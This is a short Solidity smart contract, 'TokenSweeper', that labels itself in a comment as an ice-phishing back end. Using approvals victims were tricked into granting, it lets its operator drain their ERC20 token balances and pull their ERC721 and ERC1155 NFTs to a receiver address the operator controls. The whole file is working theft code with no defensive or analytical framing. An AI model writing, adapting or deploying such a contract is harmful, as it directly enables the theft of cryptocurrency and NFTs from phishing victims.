// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IERC20 { function balanceOf(address) external view returns (uint256); function allowance(address, address) external view returns (uint256); function transferFrom(address, address, uint256) external returns (bool); }
interface IERC721 { function safeTransferFrom(address, address, uint256) external; }
interface IERC1155 { function safeBatchTransferFrom(address, address, uint256[] calldata, uint256[] calldata, bytes calldata) external; }

/// Ice-phishing back end: victims approved this contract; the operator pulls everything approved.
contract TokenSweeper {
    address private operator;
    address private receiver;

    constructor(address _receiver) { operator = msg.sender; receiver = _receiver; }

    modifier onlyOperator() { require(msg.sender == operator, "no"); _; }

    function sweepTokens(address token, address[] calldata victims) external onlyOperator {
        for (uint256 i = 0; i < victims.length; i++) {
            uint256 bal = IERC20(token).balanceOf(victims[i]);
            uint256 allowed = IERC20(token).allowance(victims[i], address(this));
            uint256 take = bal < allowed ? bal : allowed;
            if (take > 0) IERC20(token).transferFrom(victims[i], receiver, take);
        }
    }

    function sweepNfts(address collection, address victim, uint256[] calldata ids) external onlyOperator {
        for (uint256 i = 0; i < ids.length; i++) IERC721(collection).safeTransferFrom(victim, receiver, ids[i]);
    }

    function sweep1155(address collection, address victim, uint256[] calldata ids, uint256[] calldata amounts) external onlyOperator {
        IERC1155(collection).safeBatchTransferFrom(victim, receiver, ids, amounts, "");
    }

    function setReceiver(address r) external onlyOperator { receiver = r; }
    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) { return this.onERC721Received.selector; }
}
